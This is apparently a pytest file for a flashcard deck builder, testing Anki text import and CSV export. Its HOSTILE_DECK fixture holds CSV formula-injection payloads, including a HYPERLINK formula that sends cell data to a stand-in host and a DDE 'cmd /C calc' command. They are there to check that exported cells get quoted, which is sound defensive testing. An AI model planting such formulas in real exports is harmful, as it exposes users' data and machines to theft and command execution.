"""Anki's "Notes in Plain Text" (`dist/<title>.txt`), imported with the real `anki` text
importer (`get_csv_metadata` reads its header lines, `import_csv` imports it), and the plain CSV."""

from __future__ import annotations

import argparse
import csv
import json
from pathlib import Path

import pytest
import yaml
from anki.collection import ImportCsvRequest
from anki_import import fresh_collection, import_package
from conftest import make_content

from build_decks import cli, render
from build_decks.loader import load_content
from build_decks.render import anki, anki_text, csv_table
from build_decks.render.markup import to_html

SCHEDULE = "select id, did, ivl, due, type, queue, reps from cards order by id"


def build(content: Path, *commands: str, capsys: pytest.CaptureFixture) -> str:
    out = ""
    for command in commands:
        assert cli.main(["--content", str(content), "--dist", str(content.parent / "dist"),
                         command]) == 0
        out += capsys.readouterr().out
    return out


def import_text(collection, path: Path):
    metadata = collection.get_csv_metadata(str(path), None)
    return metadata, collection.import_csv(ImportCsvRequest(path=str(path),
                                                            metadata=metadata)).log


def test_every_note_type_has_the_columns_the_header_names() -> None:
    assert {len(fields) for fields in anki.MODEL_FIELDS.values()} == {anki_text.FIELD_COUNT}


def test_text_import_updates_the_packages_notes_and_adds_none(
        fixture_content: Path, tmp_path: Path, capsys: pytest.CaptureFixture,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1800000000")
    build(fixture_content, "anki", capsys=capsys)
    collection = fresh_collection(tmp_path / "anki")
    first = import_package(collection, next((tmp_path / "dist").glob("*.apkg")))
    notes = collection.note_count()
    guids = {collection.get_note(n)["Id"]: collection.get_note(n).guid
             for n in collection.find_notes("")}
    for card_id in sorted(collection.find_cards(""))[:10]:
        card = collection.get_card(card_id)
        card.start_timer()
        collection.sched.answerCard(card, 3)
    schedule = collection.db.all(SCHEDULE)

    content = load_content(fixture_content)
    text = tmp_path / "dist" / anki_text.file_name(content)
    build(fixture_content, "anki-text", capsys=capsys)
    metadata, log = import_text(collection, text)
    assert (metadata.guid_column, metadata.notetype_column, metadata.deck_column,
            metadata.tags_column, metadata.is_html) == (3, 1, 2, 12, True)
    assert not log.new and not log.updated and not log.missing_notetype
    assert len(log.duplicate) == len(first.new) == notes  # every line is a note it has

    deck = next((fixture_content / "decks").glob("*.yaml"))
    data = yaml.safe_load(deck.read_text(encoding="utf-8"))
    answered = next(c for c in data["cards"] if c["kind"] == "qa")
    answered["answer"] = "Rewritten for the text import, with a tab:\tand a \"quote\"."
    gone = data["cards"].pop(-1)["id"]
    deck.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    assert cli.main(["--content", str(fixture_content), "diff", "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    expected = {c["id"] for d in report["decks"] for a in ("updated", "removed", "moved")
                for c in d.get(a, [])}
    assert {answered["id"], gone} <= expected
    build(fixture_content, "anki-text", capsys=capsys)
    _, log = import_text(collection, text)
    assert not log.new and not log.conflicting
    assert {n.fields[anki.ID_FIELD] for n in log.updated} == expected  # as the package would
    assert collection.note_count() == notes
    after = {collection.get_note(n)["Id"]: collection.get_note(n)
             for n in collection.find_notes("")}
    assert {k: n.guid for k, n in after.items()} == guids
    with text.open(encoding="utf-8", newline="") as stream:
        lines = [row for row in csv.reader(stream, delimiter="\t") if not row[0].startswith("#")]
    assert {row[3 + anki.ID_FIELD]: row[3:11] for row in lines} == {
        k: list(n.fields) for k, n in after.items()}  # every field as the file has it
    assert 'a tab: and a "quote"' in " ".join(after[answered["id"]]["Answer"].split())
    assert anki.REMOVED_TAG in after[gone].tags
    assert collection.db.all(SCHEDULE) == schedule
    collection.close()


def test_csv_has_one_row_per_card_with_the_yamls_text(fixture_content: Path,
                                                      capsys: pytest.CaptureFixture) -> None:
    content = load_content(fixture_content)
    build(fixture_content, "csv", capsys=capsys)
    path = fixture_content.parent / "dist" / csv_table.file_name(content)
    with path.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows[0] == ["question", "answer", "topic", "tags"]
    titles = {t.id: t.title for t in content.topics}
    cards = [c for c in content.cards if c.kind != "cloze"]
    assert rows[1:] == [[csv_table.cell(t) for t in (c.front, c.back, titles[c.topic],
                                                     " ".join(c.tags))] for c in cards]
    plain = [(row, c) for row, c in zip(rows[1:], cards, strict=True)
             if not c.back.startswith(csv_table.FORMULA_STARTS)]
    assert plain and all(row[1] == c.back for row, c in plain)  # the YAML's text as it is
    assert any("\n" in answer for _, answer, _, _ in rows[1:])  # multi-line answers kept whole


HOSTILE_DECK = r"""title: Formulas
cards:
- id: f-hyperlink
  kind: qa
  topic: serving
  question: '=HYPERLINK("http://x.example/?"&B2,"Click")'
  answer: "- logged\n- never returned\n\n  - nested stays\n- last"
- id: f-cmd
  kind: qa
  topic: serving
  question: "@SUM(1+1)*cmd|' /C calc'!A0"
  answer: "+1 and -1"
- id: f-negative
  kind: qa
  topic: serving
  question: What is the log-loss of a sure wrong answer?
  answer: "-inf, in theory"
- id: f-plus-list
  kind: qa
  topic: serving
  question: Name two.
  answer: "+ one\n+ two"
- id: f-thematic
  kind: qa
  topic: serving
  question: A list that would become a rule
  answer: "- * *"
- id: f-tab
  kind: term
  topic: serving
  term: "=1+1"
  definition: "=2+2"
"""


def test_csv_cells_never_start_a_formula(tmp_path: Path,
                                         capsys: pytest.CaptureFixture) -> None:
    content_root = make_content(tmp_path, {})
    (content_root / "decks").mkdir()
    (content_root / "decks" / "formulas.yaml").write_text(HOSTILE_DECK, encoding="utf-8")
    build(content_root, "csv", capsys=capsys)
    path = tmp_path / "dist" / csv_table.file_name(load_content(content_root))
    with path.open(encoding="utf-8", newline="") as stream:
        rows = {row[0]: row[1] for row in list(csv.reader(stream))[1:]}
    assert not [cell for row in rows.items() for cell in row
                if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert rows['\'=HYPERLINK("http://x.example/?"&B2,"Click")'] == (
        "* logged\n* never returned\n\n  - nested stays\n* last")  # the same list
    assert rows["'@SUM(1+1)*cmd|' /C calc'!A0"] == "'+1 and -1"
    assert rows["What is the log-loss of a sure wrong answer?"] == "'-inf, in theory"
    assert rows["Name two."] == "* one\n* two"
    assert rows["A list that would become a rule"] == "'- * *"  # `* * *` is a rule: quoted
    assert rows["'=1+1"] == "'=2+2"
    # the loader strips a field's outer blanks; a tab or carriage return in front is quoted too
    assert csv_table.cell("\t=1+1") == "'\t=1+1" and csv_table.cell("\r=1") == "'\r=1"
    for question in ("Name two.", '\'=HYPERLINK("http://x.example/?"&B2,"Click")'):
        card = next(c for c in load_content(content_root).cards if question.endswith(c.front))
        assert to_html(rows[question]) == to_html(card.back)  # Markdown readers see the same


def test_one_build_makes_one_package_for_the_deck_and_the_text_file(
        qa_content: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = []
    package = anki._package
    monkeypatch.setattr(anki, "_package", lambda *a: made.append(a) or package(*a))
    content, options = render.prepare(qa_content, tmp_path / "dist")
    render.build(["anki", "anki-text"], content, options, argparse.Namespace())
    assert len(made) == 1  # shared by both outputs
    render.build(["anki-text"], *render.prepare(qa_content, tmp_path / "dist"),
                 argparse.Namespace())
    assert len(made) == 2  # a new build, a new package
